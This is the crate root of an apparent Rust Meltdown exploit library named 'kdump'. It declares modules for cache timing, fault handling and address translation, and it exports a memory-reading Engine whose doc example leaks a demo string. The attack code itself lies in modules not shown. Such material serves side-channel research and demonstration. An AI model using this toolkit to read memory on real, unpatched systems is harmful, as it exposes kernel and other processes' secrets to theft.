//! Meltdown: reading memory through a faulting load and a Flush+Reload
//! side channel.
//!
//! ```no_run
//! let mut engine = kdump::Engine::init(kdump::Config::AUTO)?;
//! let secret = b"papa, can you hear me?";
//! let leaked = engine.read(secret.as_ptr() as usize, secret.len());
//! engine.cleanup()?;
//! # Ok::<(), kdump::Error>(())
//! ```

#[cfg(not(all(target_arch = "x86_64", target_os = "linux")))]
compile_error!("kdump only supports x86_64 Linux");

pub mod cache;
pub mod config;
pub mod dump;
pub mod engine;
pub mod error;
pub mod fault;
pub mod leak;
mod load;
pub mod timing;
pub mod translate;

pub use config::{autoconfig, Config, FaultHandling, LoadType, DEFAULT_PHYSICAL_OFFSET};
pub use engine::{Engine, Histogram};
pub use fault::Attempt;
pub use error::{Error, Result};
pub use translate::{physical_to_virtual, query_direct_map, virtual_to_physical};

/// Same as [`autoconfig`].
pub fn get_autoconfig() -> Config {
    autoconfig()
}

/// Switches the library's debug messages on or off by moving the `log`
/// level between `Debug` and `Info`.
pub fn set_debug_output(enabled: bool) {
    log::set_max_level(if enabled {
        log::LevelFilter::Debug
    } else {
        log::LevelFilter::Info
    });
}

#[cfg(test)]
pub(crate) mod tests {
    use std::sync::{Mutex, MutexGuard, OnceLock};

    use crate::config::{autoconfig, Config};

    static ENGINE_LOCK: Mutex<()> = Mutex::new(());

    /// Serialises tests that touch the SIGSEGV disposition or the single
    /// engine slot.
    pub fn engine_lock() -> MutexGuard<'static, ()> {
        ENGINE_LOCK.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// Calibrating takes a while, so tests share one result.
    pub fn calibrated() -> Config {
        static CONFIG: OnceLock<Config> = OnceLock::new();
        *CONFIG.get_or_init(autoconfig)
    }

    #[test]
    fn debug_output_toggles_log_level() {
        super::set_debug_output(true);
        assert_eq!(log::max_level(), log::LevelFilter::Debug);
        super::set_debug_output(false);
        assert_eq!(log::max_level(), log::LevelFilter::Info);
    }
}
